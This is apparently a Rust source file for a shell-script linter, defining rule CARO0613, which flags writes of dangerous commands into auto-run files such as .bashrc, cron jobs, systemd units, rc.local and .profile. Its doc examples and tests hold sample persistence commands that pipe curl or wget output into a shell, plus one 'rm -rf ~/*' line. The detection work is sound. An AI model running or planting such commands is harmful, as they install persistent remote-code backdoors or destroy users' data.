//! CARO0613: a file that runs by itself gets code that nobody should run.

use super::later;
use crate::flow::Origin;
use crate::rules::acts::FileAct;
use crate::rules::{Check, Level, Sink};

rule! {
    /// Writes into a file that runs by itself: at every start, at every login, by cron.
    ///
    /// What is written there runs what the network sends, or does other damage, again and again and also after a restart.
    /// Install a file that you have read, and start that.
    ///
    /// To decide: Has somebody read what runs there each time, and could it be a file that is installed once instead?
    ///
    /// ```sh bad
    /// echo 'curl -s http://example.org/x | bash' >> ~/.bashrc
    /// ```
    /// ```sh bad
    /// echo '* * * * * root wget -qO- http://example.org/x | sh' > /etc/cron.d/update
    /// ```
    /// ```sh bad
    /// cat > /etc/systemd/system/x.service <<E
    /// [Service]
    /// ExecStart=/bin/bash -c 'bash <(curl -s https://example.org/x)'
    /// E
    /// ```
    /// ```sh good
    /// echo 'export PATH="$HOME/bin:$PATH"' >> ~/.bashrc
    /// ```
    /// ```sh good
    /// echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup
    /// ```
    /// ```sh good
    /// cat > /etc/systemd/system/app.service <<E
    /// [Service]
    /// ExecStart=/usr/bin/app --port 80
    /// E
    /// ```
    /// ```sh good
    /// echo 'curl -s http://example.org/x | bash' >> notes.txt
    /// ```
    "CARO0613" "startup-runs-danger",
    Danger,
    Check::File { run: check }
}

fn check(act: &FileAct<'_>, sink: &mut Sink<'_>) {
    if !act.kind.writes() || act.command.is_none() {
        return;
    }
    let value = sink.value(act.path);
    let started = value.shapes.iter().find_map(|it| Some((it.text.to_string(), later::started_by(&it.text)?)));
    let Some((path, (by, form))) = started else { return };
    if let Some(danger) =
        later::written(act, sink).iter().take(later::MOST_TEXTS).find_map(|it| later::danger_in(it, form))
    {
        sink.report(act.span, format!("{by} runs `{path}`, and then: {danger}"));
    } else if act.contents.as_ref().is_some_and(|it| it.is_from(Origin::Network))
        || act
            .command
            .is_some_and(|it| matches!(it.program.as_deref(), Some("curl" | "wget")) && act.span == act.path.span)
    {
        // Installers do so, with files that somebody vouches for.
        let message = format!("{by} runs `{path}`, which now holds what the network sent");
        sink.report(act.span, message).level(Level::Caution);
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::tests::check_marks;

    #[test]
    fn the_way_of_writing_does_not_matter() {
        check_marks(
            "echo 'bash <(curl -s http://x.io)' | sudo tee -a /etc/rc.local\n#                                                ^^^^^^^^^^^^^ CARO0613\n",
        );
        check_marks("F=$HOME/.profile; echo 'rm -rf ~/*' >> \"$F\"\n#mark 0 36 43 CARO0613\n");
        check_marks("curl -so /etc/cron.hourly/x https://x.io/x\n#        ^^^^^^^^^^^^^^^^^^ CARO0415\n");
        check_marks("curl -s https://x.io/x >> ~/.bashrc\n#mark 0 23 35 CARO0415\n");
        check_marks("tee /etc/cron.daily/x <<'E'\n#!/bin/sh\ncurl $URL | sh\nE\n#mark 0 4 21 CARO0613\n");
    }
}
